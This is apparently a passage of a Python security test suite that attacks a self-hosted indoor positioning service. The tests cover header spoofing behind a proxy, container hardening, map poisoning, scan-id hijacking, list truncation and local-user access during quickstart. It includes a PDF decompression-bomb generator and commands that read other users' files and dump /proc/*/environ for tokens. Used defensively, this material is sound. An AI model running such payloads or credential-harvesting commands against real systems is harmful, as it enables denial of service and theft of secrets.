            refuse(answer.status == 403 or is_key_refused, f"{name}: {answer}")
    control(asked > 80, f"{asked} operations")
    control(house.get("/v1/sites/a/radio-map", SECRET).is_good, "services get the map")
    control(house.get("/v1/sites/a", house.owner).is_good, "the site is still there")


@attack("C6", "a stranger behind the proxy shows the secret, or shows it in another place",
        {"WHEREABOUTS_TRUSTED_PROXIES": "127.0.0.0/8"})
def secret_through_proxy(house):
    around = {"x-forwarded-for": "203.0.113.7", "x-forwarded-proto": "https"}
    places = [{"cookie": f"session={SECRET}; token={SECRET}; whereabouts={SECRET}"},
              {"authorization": f"Basic {SECRET}"}, {"x-api-key": SECRET}, {"remote-user": "service"}]
    for headers in places:
        for query in ("", f"?token={SECRET}&access_token={SECRET}"):
            # A caller with access would get 400, because the parameters are unknown.
            answer = house.get(f"/v1/sites/a/radio-map{query}", "", around | headers)
            refuse(answer.status in (401, 403, 429), f"{list(headers)}{query}: {answer}")
    control(house.get("/v1/sites/a/radio-map", SECRET).is_good, "a service gets the map")
    for path in ("/v1/positions?site=a", "/v1/positions/latest?site=a", "/v1/sites"):
        answer = house.get(path, SECRET, around)
        refuse(not answer.is_good, f"{path}: {answer}")
    for method, path, body in [("GET", "/v1/sites/a/radio-map", None),
                               ("POST", "/v1/token-uses", {"uses": []})]:
        answer = house.send(method, path, SECRET, body, around)
        refuse(not answer.is_good, "from 203.0.113.7 through the proxy the secret is good for "
               f"{method} {path}: {answer}")


# C7: what containers may do. Read from the files, since there is no Docker here.

COMPOSE = ["docker-compose.yml", "deploy/compose.small.yml", "deploy/compose.three-brokers.yml"]


def without_comment(line: str) -> str:
    return re.sub(r"(^|\s)#.*$", "", line).rstrip()


def merged(value, known: dict):
    """A value of one line, with what it refers to."""
    if isinstance(value, str) and value.startswith("*"):
        return known[value[1:]]
    if isinstance(value, str) and value.startswith("{"):
        made = {}
        for part in re.findall(r"([\w<-]+): (\[[^]]*\]|[^,}]+)", value[1:-1]):
            if part[0] == "<<":
                made |= known[part[1].strip()[1:]]
            else:
                made[part[0]] = merged(part[1].strip(), known)
        return made
    if isinstance(value, str) and value.startswith("["):
        parts = re.findall(r'"([^"]*)"|([^\s,\[\]]+)', value[1:-1])
        return [one or other for one, other in parts]
    return value.strip('"') if isinstance(value, str) else value


def read_compose(path: str) -> dict:
    """As much of YAML as these files use: mappings, lists, anchors, merges."""
    lines = [line for line in map(without_comment, (ROOT / path).read_text().splitlines()) if line]
    known: dict = {}

    def depth(line: str) -> int:
        return len(line) - len(line.lstrip())

    def block(at: int, indent: int):
        is_list = lines[at].lstrip().startswith("- ")
        made = [] if is_list else {}
        while at < len(lines) and depth(lines[at]) == indent:
            text = lines[at].strip()
            at += 1
            while text.count("[") > text.count("]"):
                text, at = f"{text} {lines[at].strip()}", at + 1
            if is_list:
                made.append(text[2:].strip('"'))
                continue
            name, _, rest = text.partition(":")
            anchor = re.match(r"\s*&([\w-]+)", rest)
            rest = rest[anchor.end():].strip() if anchor else rest.strip()
            if not rest and at < len(lines) and depth(lines[at]) > indent:
                value, at = block(at, depth(lines[at]))
            else:
                value = merged(rest, known)
            if anchor:
                known[anchor[1]] = value
            if name == "<<":
                made = value | made
            else:
                made[name.strip('"')] = value
        return made, at

    return block(0, 0)[0]


def containers():
    for path in COMPOSE:
        read = read_compose(path)
        control(len(read["services"]) >= 4 and "caddy" in read["services"], f"{path} was read")
        for name, service in read["services"].items():
            control("image" in service, f"{path} {name}: {service}")
            yield f"{path} {name}", name, service


def all_hold(check):
    """The check gives what is wrong with a container, or nothing."""
    wrong = [f"{place}: {found}" for place, name, service in containers()
             if (found := check(name, service))]
    refuse(not wrong, "\n      ".join(wrong))


@attack("C7", "a container takes all memory, processes or disk of the machine")
def container_without_end(house):
    def check(name, service):
        lacks = [key for key in ("mem_limit", "pids_limit") if not service.get(key)]
        lacks += [place for place in service.get("tmpfs", []) if ":size=" not in place]
        options = (service.get("logging") or {}).get("options") or {}
        lacks += [] if options.get("max-size") and options.get("max-file") else ["logging"]
        return f"without end: {lacks}" if lacks else None
    all_hold(check)


@attack("C7", "a container writes to its programs, or gains rights")
def container_with_rights(house):
    needed = {"NET_BIND_SERVICE", "CHOWN", "DAC_OVERRIDE", "FOWNER", "SETGID", "SETUID"}

    def check(name, service):
        wrong = [key for key in ("privileged", "pid", "ipc", "devices", "cap_add")
                 if service.get(key) and not set(service[key]) <= needed]
        wrong += [] if service.get("cap_drop") == ["ALL"] else ["cap_drop"]
        options = service.get("security_opt", [])
        wrong += [] if "no-new-privileges:true" in options else ["security_opt"]
        # Kafka's own image writes its settings beside its programs.
        if not name.startswith("kafka"):
            wrong += [] if service.get("read_only") == "true" else ["read_only"]
        wrong += [place for place in service.get("tmpfs", [])
                  if name != "topic-rights" and not {"nosuid", "nodev", "noexec"} <= set(
                      re.split("[:,]", place))]
        wrong += [volume for volume in service.get("volumes", []) if "docker.sock" in volume
                  or re.match(r"\.{0,2}/", volume) and not volume.endswith(":ro")]
        return f"may do too much: {wrong}" if wrong else None
    all_hold(check)
    user = re.findall(r"^USER (\S+)", (ROOT / "deploy/Dockerfile").read_text(), re.M)
    refuse(bool(user) and user[-1] not in ("0", "root"), f"the image runs as {user}")


@attack("C7", "the proxy reaches the log, or a service's port the world")
def container_networks(house):
    def check(name, service):
        networks = service.get("networks") or ["default"]
        networks = set(networks if isinstance(networks, list) else networks.keys())
        if service.get("network_mode") == "none":
            return None
        if name == "caddy":
            return None if networks == {"services", "edge"} else f"is in {networks}"
        if service.get("ports"):
            return f"has a port of the machine: {service['ports']}"
        if name.startswith(("kafka", "postgres", "database", "topic")) and networks & {
                "services", "edge", "default"}:
            return f"is in {networks}"
        return "is in the default network" if "default" in networks else None
    all_hold(check)
    for path in COMPOSE:
        for name, network in read_compose(path)["networks"].items():
            refuse(name == "edge" or (network or {}).get("internal") == "true",
                   f"{path}: {name} leads out")


@attack("C7", "a secret stands in the environment of a container that goes on running")
def container_secrets(house):
    # These have no network, or end before anybody can ask anything of them.
    short = {"secrets", "certificates", "database-roles", "topic-rights", "topics", "operator"}
    # Whoever may ask Docker for them is root already, and reads the file .env that they come from:
    # decision 0024.
    known = {"POSTGRES_PASSWORD", "WHEREABOUTS_OIDC_CLIENT_SECRET", "WHEREABOUTS_BUCKET_SECRET",
             "WHEREABOUTS_ALARM_SMTP_PASSWORD", "WHEREABOUTS_MQTT_PASSWORD"}

    def check(name, service):
        environment = service.get("environment") or {}
        found = [key for key, value in environment.items()
                 if re.search("SECRET|PASSWORD|PGPASS", key) and not key.endswith("_FILE")
                 and key not in known and name not in short]
        found += [key for key, value in environment.items() if re.search(r"://[^/@]*:[^/@]*@", value)]
        return f"environment tells {found}" if found else None
    all_hold(check)


# C8: far-off surveys cost a site the accuracy of its tracks.

def surveyed_site(house, site: str) -> tuple[str, str]:
    """One hall, above it a floor without rooms, and a radio map; a surveyor's token and a device's."""
    whole = document(site)
    hall = whole["rooms"][0] | {"outline": [[0, 0], [20, 0], [20, 8], [0, 8]]}
    new_site(house, site, rooms=[hall], connections=[], floors=whole["floors"] + [
        {"id": "roof", "building": "house", "ordinal": 1, "level": "R"}])
    surveyor, device = house.token("surveyor", site), house.token("device", site, device="walker")
    for number in range(24):
        house.wait("a survey is taken", 20, lambda: house.survey(
            number, site, surveyor, device="walker").status == 202)
    uses_map(house, site, device, 24)
    return surveyor, device


def uses_map(house, site: str, device: str, surveys: int):
    """Waits until devices are located by a map that was made with so many surveys in sight."""
    def version():
        found = house.get(f"/v1/sites/{site}/radio-map", house.owner).json
        seen = found["surveysInMap"] + found.get("surveysLeftOut", 0)
        return seen >= surveys and found["radioMap"]["version"]
    newest = house.wait(f"{site} has a map of {surveys} surveys", 30, version)
    house.wait("the map is in use", 30, lambda: house.send(
        "POST", "/v1/locate", device, scan(5, 4)).json.get("radioMapVersion") == newest)


def farthest(house, site: str, token: str, began: float) -> float:
    """Metres by which a walk's positions are off at most, once they are tracked."""
    at = [time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(began + 2 * step)) for step in range(8)]
    walk = [scan(3 + 2 * step, 4) | {"id": str(uuid.uuid4()), "at": at[step]} for step in range(8)]
    answer = house.send("POST", "/v1/scans", token, walk)
    control(answer.status == 202, f"the walk is taken: {answer}")
    names = ",".join(f"'{one['id']}'" for one in walk)
    house.wait("the walk is located", 20, lambda: house.query(
        f"SELECT count(*) FROM locator.positions WHERE scan_id IN ({names})") == [["8"]])
    found = {row[0]: row[1:] for row in house.query(
        f"SELECT scan_id, x, y FROM locator.positions WHERE scan_id IN ({names})")}
    off = [((float(found[walk[step]["id"]][0] or 1e9) - 3 - 2 * step) ** 2
            + (float(found[walk[step]["id"]][1] or 1e9) - 4) ** 2) ** 0.5 for step in range(2, 8)]
    return max(off)


TRACK = {"WHEREABOUTS_POSITIONER": "track"}


def spoil(house, site: str, places: list[dict]):
    """The surveyor makes surveys at these places; nobody may be located worse for it."""
    surveyor, device = surveyed_site(house, site)
    before = farthest(house, site, device, time.time() - 120)
    control(before < 6, f"tracks are good before: {before:.1f} m")
    taken = 24
    for place in places:
        answer = house.send("POST", "/v1/surveys", surveyor,
                            scan(5, 4) | {"device": "walker", "place": place})
        control(answer.status in (202, 422), f"{place}: {answer}")
        taken += answer.status == 202
    uses_map(house, site, device, taken)
    after = farthest(house, site, device, time.time() - 60)
    refuse(after < before + 2, f"off by {after:.1f} m, {before:.1f} m before")


@attack("C8", "one survey in each corner of what a site may span", TRACK)
def far_corners(house):
    spoil(house, "c8-corners", [{"floor": "ground", "x": x, "y": y}
                                for x in (-99_000, 99_000) for y in (-99_000, 99_000)])


@attack("C8", "more far-off surveys than are left out, each a step farther", TRACK)
def far_steps(house):
    spoil(house, "c8-steps", [{"floor": "ground", "x": 30 + 4_000 * step, "y": 3_000 * step}
                              for step in range(1, 25)])


@attack("C8", "two far-off surveys of a floor of which nothing is drawn", TRACK)
def far_roof(house):
    spoil(house, "c8-roof", [{"floor": "roof", "x": x, "y": x} for x in (-99_000, 99_000)])


# C9: the id of somebody else's scan, used once more.

def located(house, token: str, name: str, device: str, body: dict | None = None) -> dict:
    answer = house.send("POST", "/v1/scans", token, (body or scan(5, 4)) | {"id": name})
    control(answer.status == 202, f"the scan is taken: {answer}")
    found = house.wait("it is located", 20, lambda: house.query(
        f"SELECT id FROM locator.positions WHERE scan_id = '{name}' AND device = '{device}'"))
    return {"position": found[0][0], "scan": name}


def is_theirs(house, victim: dict, site: str, device: str, what: str):
    """Who asks for the victim's position by its id must get the victim's."""
    answer = house.get(f"/v1/positions/{victim['position']}", house.tokens[f"analyst-{site}"])
    refuse(answer.is_good and answer.json["device"] == device and answer.json["site"] == site,
           f"{what}: {victim['position']} is now {answer}")


def forget_ids(house):
    """scan-ingest remembers ids in memory alone."""
    house.end()
    house.start(house.settings)


@attack("C9", "another device sends a scan under the id of a victim's")
def scan_id_twice(house):
    token = house.token("device", "a", device="victim")
    thief = house.token("device", "a", device="thief")
    victim = located(house, token, str(uuid.uuid4()), "victim")
    for name in (victim["scan"], victim["scan"].upper()):
        for who, path in [(thief, "/v1/scans"), (house.tokens["surveyor-a"], "/v1/surveys")]:
            body = scan(15, 4) | {"id": name}
            if path == "/v1/surveys":
                body |= {"device": "victim", "place": {"floor": "ground", "x": 15, "y": 4}}
            answer = house.send("POST", path, who, body)
            refuse(answer.status == 409 or "conflict" in str(answer.json), f"{path}: {answer}")
    batch = house.send("POST", "/v1/scans", thief, [scan(15, 4) | {"id": victim["scan"]}])
    refuse((batch.json or {}).get("accepted", 0) == 0, f"in a batch: {batch}")
    again = house.send("POST", "/v1/scans", token, scan(5, 4) | {"id": victim["scan"]})
    control(again.status == 409 or again.status == 202, f"the victim's own retry: {again}")
    time.sleep(1)
    is_theirs(house, victim, "a", "victim", "after refusals")
    refuse(house.positions("thief") == 0, "the thief has a position")


@attack("C9", "the same after the ids were forgotten, by a device of the same site")
def scan_id_after_restart(house):
    token = house.token("device", "a", device="victim-2")
    victim = located(house, token, str(uuid.uuid4()), "victim-2")
    other = located(house, token, str(uuid.uuid4()), "victim-2", scan(15, 4))
    thief = house.token("device", "a", device="thief-2")
    forget_ids(house)
    house.wait("scans are taken", 20, lambda: house.send(
        "POST", "/v1/scans", thief, scan(5, 4)).status == 202)
    late = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 3_600))
    for number, at in enumerate([None, late]):
        located(house, thief, (victim, other)[number]["scan"], "thief-2",
                scan(15, 4) | ({"at": at} if at else {}))
    for one in (victim, other):
        is_theirs(house, one, "a", "victim-2", "after a restart")
        explained = house.get(f"/v1/positions/{one['position']}/explain", house.tokens["analyst-a"])
        refuse(not explained.is_good or b"thief-2" not in explained.body, f"explained: {explained}")
    answer = house.get(f"/v1/positions/{victim['position']}", thief)
    refuse(answer.status in (403, 404), f"the thief reads the victim's: {answer}")


@attack("C9", "the same from another site, and by the victim's own device with other content")
def scan_id_of_other_site(house):
    token = house.token("device", "a", device="victim-3")
    victim = located(house, token, str(uuid.uuid4()), "victim-3")
    x = house.get(f"/v1/positions/{victim['position']}", house.tokens["analyst-a"]).json["x"]
    thief = house.token("device", "b", device="victim-3")
    forget_ids(house)
    house.wait("scans are taken", 20, lambda: house.send(
        "POST", "/v1/scans", thief, scan(5, 4) | {"id": victim["scan"]}).status == 202)
    house.wait("it is located", 20, lambda: house.query(
        f"SELECT 1 FROM locator.positions WHERE site = 'b' AND scan_id = '{victim['scan']}'"))
    is_theirs(house, victim, "a", "victim-3", "after b's scan")
    answer = house.get(f"/v1/positions/{victim['position']}", house.tokens["analyst-b"])
    refuse(b"victim-3" not in answer.body or answer.json.get("site") == "b", f"b reads a's: {answer}")
    again = house.send("POST", "/v1/scans", token, scan(15, 4) | {"id": victim["scan"]})
    control(again.status in (202, 409), f"{again}")
    control(house.locates(), "others are still located")
    now = house.get(f"/v1/positions/{victim['position']}", house.tokens["analyst-a"])
    refuse(now.is_good and now.json["x"] == x, f"the position moved: {now}")


# C10: lists that end without saying so.

def pages(house, path: str, member: str, token: str, most: int = 50) -> list:
    """All that a list gives, followed by its cursors."""
    found, after = [], ""
    for _ in range(most):
        answer = house.get(path + ("&" if "?" in path else "?") + after, token)
        control(answer.is_good, f"{path}: {answer}")
        found += answer.json[member]
        if not answer.json.get("next"):
            return found
        after = f"after={answer.json['next']}"
    raise AssertionError(f"{path} does not end")


@attack("C10", "the latest positions end at ten thousand, and nothing says so")
def cut_latest(house):
    control(house.locates(), "there is a position")
    new_site(house, "c10")
    house.query("""
        INSERT INTO locator.latest_positions
            (site, device, at, position_id, floor, room, state, event, appended_at)
        SELECT 'c10', 'd' || lpad(number::text, 6, '0'), at, position_id, floor, room, state,
            event || jsonb_build_object('site', 'c10', 'device', 'd' || lpad(number::text, 6, '0')),
            appended_at
        FROM generate_series(1, 10050) AS number,
            (SELECT * FROM locator.latest_positions WHERE site = 'a' LIMIT 1) AS one""")
    analyst = house.token("analyst", "c10")
    first = house.get("/v1/positions/latest", analyst)
    control(first.is_good, f"{first}")
    refuse(len(first.json["positions"]) == 10_050 or bool(first.json.get("next")),
           f"{len(first.json['positions'])} of 10050, next {first.json.get('next')}")
    found = [position["device"] for position in pages(
        house, "/v1/positions/latest", "positions", analyst)]
    refuse(len(set(found)) == len(found) == 10_050,
           f"{len(found)} by pages, {len(set(found))} of them")
    house.query("DELETE FROM locator.latest_positions WHERE site = 'c10' AND device > 'd010000'")
    # Just as many as a page has.
    found = pages(house, "/v1/positions/latest", "positions", analyst)
    refuse(len(found) == 10_000, f"{len(found)} of 10000")
    house.query("DELETE FROM locator.latest_positions WHERE site = 'c10'")


@attack("C10", "tokens beyond a page are out of sight, or another site's come in by a cursor")
def cut_tokens(house):
    admin = new_site(house, "c10-tokens")
    house.query("""
        INSERT INTO site_editor.tokens (id, hash, role, site, note, issued_at)
        SELECT gen_random_uuid(), 'c10-' || number, 'visitor', 'c10-tokens', 'n' || number, now()
        FROM generate_series(1, 2100) AS number""")
    found = [token["note"] for token in pages(house, "/v1/tokens", "tokens", admin)]
    refuse({f"n{number}" for number in range(1, 2101)} <= set(found), f"{len(found)} of 2100")
    refuse(len(found) <= 2102, f"{len(found)} tokens: some are shown twice")
    others = [row[0] for row in house.query(
        "SELECT id FROM site_editor.tokens WHERE site = 'a' ORDER BY id LIMIT 3")]
    for rest in [f"?after={others[0]}", "?after=00000000-0000-0000-0000-000000000000&limit=1000",
                 f"?issuedBy={others[0]}", "?issuedBy=%25", "?site=c10-tokens&site=a"]:
        answer = house.get(f"/v1/tokens{rest}", admin)
        refuse(all(token["site"] == "c10-tokens" for token in (answer.json or {}).get("tokens", [])),
               f"{rest} shows other sites' tokens: {answer}")
    refuse(house.get("/v1/tokens?site=a", admin).status == 403, "the tokens of a are shown")
    for limit in ("0", "-1", "1001", "999999999999999999999", "1e3", ""):
        answer = house.get(f"/v1/tokens?limit={limit}", admin)
        refuse(answer.status == 400 or len(answer.json["tokens"]) <= 1000, f"limit={limit}: {answer}")


@attack("C10", "a short page of any other list does not say that it was cut")
def cut_others(house):
    admin = house.tokens["administrator-a"]
    token = house.token("device", "a", device="lister")
    for _ in range(3):
        located(house, token, str(uuid.uuid4()), "lister")
    own = new_site(house, "c10-others")
    for number in range(3):
        answer = house.send("POST", "/v1/outages", own, {
            "connection": "door-ab", "reason": f"r{number}", "reportedBy": "x"})
        control(answer.is_good, f"{answer}")
        new_site(house, "c10-others", name=f"House {number}")
    for path, admin in [(path, admin) for path in (
            "/v1/sites/a/rooms", "/v1/tokens", "/v1/sites/a/access-points",
            "/v1/sites/a/fingerprints", "/v1/sites/a/surveys")] + [
            ("/v1/outages", own), ("/v1/sites/c10-others/versions", own)]:
        whole = house.get(path, admin).json
        member = next(name for name, value in whole.items() if isinstance(value, list))
        cut = house.get(f"{path}?limit=1", admin).json
        control(len(whole[member]) > 1, f"{path} has more than one: {str(whole)[:200]}")
        refuse(len(cut[member]) == 1 and bool(cut.get("next")), f"{path}?limit=1: {str(cut)[:200]}")
        cut = pages(house, f"{path}?limit=1", member, admin, 80) if path != "/v1/tokens" else None
        refuse(cut is None or len(cut) == len(whole[member]),
               f"{path}: {len(cut or [])} one by one, {len(whole[member])} at once")
    cut = house.get("/v1/positions?device=lister&limit=2", house.tokens["analyst-a"])
    refuse(len(cut.body.splitlines()) == 2 and "whereabouts-next" in cut.headers, f"positions: {cut}")


# C11: pages of PDF files.

def pdf(levels: int, box: tuple = (200, 200), junk: int = 0) -> bytes:
    """Forms that draw the next one twice: work that doubles with each level."""
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R /Resources "
             b"<< /XObject << /F 5 0 R >> >> >>" % box,
             b"<< /Length 5 >>\nstream\n/F Do\nendstream"]
    for level in range(levels):
        is_last = level == levels - 1
        body = b"0 0 9 9 re f" if is_last else b"/F Do /F Do"
        rest = b"" if is_last else b"/Resources << /XObject << /F %d 0 R >> >>" % (6 + level)
        parts.append(b"<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] %s /Length %d >>\n"
                     b"stream\n%s\nendstream" % (rest, len(body), body))
    file = b"%PDF-1.4\n% " + b"j" * junk + b"%d\n" % time.time_ns()
    at = []
    for number, part in enumerate(parts, 1):
        at.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in at)
    return file + (b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\n"
                   b"startxref\n%d\n%%%%EOF\n" % (len(parts) + 1, table, len(parts) + 1, len(file)))


def kept_pdf(house, token: str, file: bytes) -> str:
    answer = keep(house, token, file, "application/pdf")
    control(answer.is_good, f"the file is kept: {answer}")
    return answer.json["media"]["hash"]


@attack("C11", "large files wait in memory for their turn")
def pdf_queue(house):
    admin, other = house.tokens["administrator-a"], house.tokens["administrator-b"]
    large = kept_pdf(house, admin, pdf(15, junk=12 << 20))
    plain = kept_pdf(house, other, pdf(1))
    before, most = house.memory(), [0]
    answers = []

    def ask(token, name, page):
        answers.append(house.send("POST", f"/v1/media/{name}/picture?dotsPerInch={page}", token,
                                  seconds=80))
    threads = [threading.Thread(target=ask, args=[admin, large, 36 + number], daemon=True)
               for number in range(40)]
    for thread in threads:
        thread.start()
    time.sleep(0.5)
    most[0] = house.memory()
    rightful = threading.Thread(target=ask, args=[other, plain, 72], daemon=True)
    rightful.start()
    while any(thread.is_alive() for thread in threads):
        most[0] = max(most[0], house.memory())
        time.sleep(0.2)
    rightful.join(60)
    refused = sum(answer.status == 429 for answer in answers)
    refuse(refused >= 30, f"of 40 drawings at once {refused} were refused")
    # One file, its copy on the way, and its picture; 40 files are 480 MiB.
    refuse(most[0] - before < 200 << 20, f"memory grew by {(most[0] - before) >> 20} MiB")
    control(any(answer.is_good for answer in answers), f"some are drawn: {answers[:3]}")


@attack("C11", "one site's administrator takes all turns with tokens of their own making")
def pdf_turns(house):
    admin, other = house.tokens["administrator-a"], house.tokens["administrator-b"]
    heavy, plain = kept_pdf(house, admin, pdf(15)), kept_pdf(house, other, pdf(1))
    tokens = [house.issue("administrator", "a", admin)["token"] for _ in range(10)]
    stop = threading.Event()

    def flood(token):
        while not stop.is_set():
            answer = house.send("POST", f"/v1/media/{heavy}/picture?dotsPerInch=72", token,
                                seconds=60)
            if answer.status == 429:
                time.sleep(0.05)
    threads = [threading.Thread(target=flood, args=[token], daemon=True) for token in tokens * 3]
    for thread in threads:
        thread.start()
    try:
        time.sleep(1)
        answers = []
        # As a program would that heeds Retry-After: 1.
        for _ in range(5):
            answers.append(house.send("POST", f"/v1/media/{plain}/picture?dotsPerInch=80", other,
                                      seconds=40).status)
            if answers[-1] in (200, 201):
                break
            time.sleep(1)
    finally:
        stop.set()
        for thread in threads:
            thread.join(60)
    refuse(answers[-1] in (200, 201), f"site b's only drawing was refused: {answers}")


@attack("C11", "a page without end leaves a process, files or a picture of a gigabyte")
def pdf_bomb(house):
    admin = house.tokens["administrator-a"]
    places = [pathlib.Path(tempfile.gettempdir()), house.folder]
    # The first never ends; it has 20 s. What is kilometres wide poppler draws as one pixel.
    for file in [pdf(40), pdf(1, (14_000_000, 14_000_000)), pdf(1, (14_000, 14_000))]:
        name, before = kept_pdf(house, admin, file), house.memory()
        answer = house.send("POST", f"/v1/media/{name}/picture?dotsPerInch=600", admin, seconds=60)
        refuse(answer.status == 422 or answer.json["media"]["bytes"] < 1 << 20,
               f"the page was drawn: {answer}")
        refuse(house.memory() - before < 200 << 20, f"memory: {(house.memory() - before) >> 20} MiB")
    left = [str(found) for place in places for found in place.glob("whereabouts-page-*")]
    running = subprocess.run(["pgrep", "-P", str(house.process.pid), "-f", "pdftoppm"],
                             capture_output=True, text=True).stdout.split()
    refuse(not running, f"still drawing: {running}")
    refuse(not left, f"files are left: {left}")
    control(house.send("POST", f"/v1/media/{kept_pdf(house, admin, pdf(1))}/picture", admin).is_good,
            "a good page is drawn")


# C12: what other users of the machine can do while quickstart runs.

class Quickstart:
    """Its own steps that start the database and the server, with the program that is tested."""

    def __init__(self, house):
        script = (ROOT / "deploy/quickstart").read_text()
        steps, _, rest = script.partition('step "look for Swift"')
        control("start_database" in rest and "start_service" in rest, "the script was read")
        steps = steps.replace('. "$(dirname "${BASH_SOURCE[0]}")/steps.sh"',
                              f'. "{ROOT}/deploy/steps.sh"')
        self.script = house.folder / "quickstart-steps"
        self.script.write_text(f"""{steps}
program="{" ".join(house.command())}"
step "start PostgreSQL" start_database
step "start whereabouts serve" start_service
step "make tokens" make_token
echo "ready $home $url"
read -r line
""")

    def __enter__(self):
        # Nothing of the other server's environment.
        environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "LANG": "C.UTF-8"}
        self.process = subprocess.Popen(
            ["bash", self.script], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
            stderr=subprocess.DEVNULL, env=environment, start_new_session=True)
        ready = self.process.stdout.readline().split()
        control(ready[:1] == ["ready"], "quickstart's steps start a server")
        self.home, self.url = pathlib.Path(ready[1]), ready[2]
        return self

    def __exit__(self, *_):
        self.process.stdin.close()
        try:
            self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(self.process.pid, signal.SIGTERM)
            self.process.wait(timeout=30)

    def stranger(self, *command: str, name: str = "nobody") -> subprocess.CompletedProcess:
        """What another user of the machine gets, who knows the folder from `ls /tmp`."""
        user = pwd.getpwnam(name)
        return subprocess.run(
            command, capture_output=True, text=True, cwd="/", timeout=20, user=user.pw_uid,
            group=user.pw_gid, extra_groups=[], env={"PATH": os.environ["PATH"], "HOME": "/"})


def as_root():
    control(os.geteuid() == 0, "only root can become another user")


@attack("C12", "another user of the machine connects to the database, by socket or network")
def quickstart_database(house):
    as_root()
    with Quickstart(house) as run:
        socket = run.home / "socket"
        own = subprocess.run(
            ["psql", "-XAtc", "SELECT 1", f"postgresql://whereabouts@/postgres?host={socket}"],
            capture_output=True, text=True)
        control(own.stdout.strip() == "1", f"who started it connects: {own}")
        for user in ("whereabouts", "postgres", "nobody"):
            for host in (str(socket), "127.0.0.1", "localhost", "/tmp", "/var/run/postgresql"):
                done = run.stranger("psql", "-XAtc", "SELECT 'i'||'n'", "-w",
                                    f"postgresql://{user}@/postgres?host={host}&connect_timeout=3")
                # Whoever else runs a PostgreSQL on its usual port is not meant.
                refuse("in" not in done.stdout.split() or host in (
                    "127.0.0.1", "localhost", "/tmp", "/var/run/postgresql") and not run.stranger(
                        "psql", "-XAtc", "SELECT FROM log.topics", "-w",
                        f"postgresql://{user}@/postgres?host={host}").returncode == 0,
                       f"{user} by {host}: {done}")
        rules = (run.home / "postgres/pg_hba.conf").read_text().splitlines()
        open_rules = [rule for rule in rules if re.search(r"\b(trust|password)\s*$", rule)
                      and not rule.startswith("#")]
        refuse(not open_rules, f"open to everybody: {open_rules}")


@attack("C12", "another user of the machine reads its files")
def quickstart_files(house):
    as_root()
    with Quickstart(house) as run:
        files = [str(path) for path in run.home.rglob("*") if path.is_file()]
        control(any("PG_VERSION" in path for path in files), "the database's files are there")
        done = run.stranger("cat", *files)
        said = done.stdout + run.stranger("ls", "-R", str(run.home)).stdout
        words = re.findall(r"\S*join#\S+", said)
        refuse(not words, f"the link that makes the first administrator: {words}, of {run.home}")
        refuse("PG_VERSION" not in said and "serve.log" not in said,
               f"the folder is listed: {said[:300]}")
        tokens = run.stranger("ps", "-eo", "args", "ww").stdout
        refuse("whereabouts-quickstart" not in tokens or not re.search(
            r"--token \S|postgresql://[^:@ ]+:[^@ ]+@", tokens), f"a secret in ps: {tokens[:500]}")


@attack("C12", "another user of the machine becomes administrator of the server")
def quickstart_server(house):
    as_root()
    with Quickstart(house) as run:
        for name in ("serve.log", "postgres/log", "initdb.log"):
            found = run.stranger("cat", str(run.home / name)).stdout
            link = re.search(r"join#([\w-]+)", found)
            if not link:
                continue
            done = run.stranger("curl", "-sS", f"{run.url}/v1/accounts", "--json", json.dumps({
                "secret": link[1], "signIn": "mallory", "name": "Mallory",
                "password": "correct horse battery staple 42"}))
            refuse('"administrator"' not in done.stdout,
                   f"by the link in {name} nobody is administrator: {done.stdout[:300]}")
        for path in ("/v1/tokens", "/v1/sites", "/v1/positions?site=a"):
            done = run.stranger(
                "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", run.url + path)
            refuse(done.stdout == "401", f"{path}: {done.stdout}")
        environment = run.stranger(
            "bash", "-c", "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")
        refuse("WHEREABOUTS_TOKEN=" not in environment.stdout, "the token is in an environment")
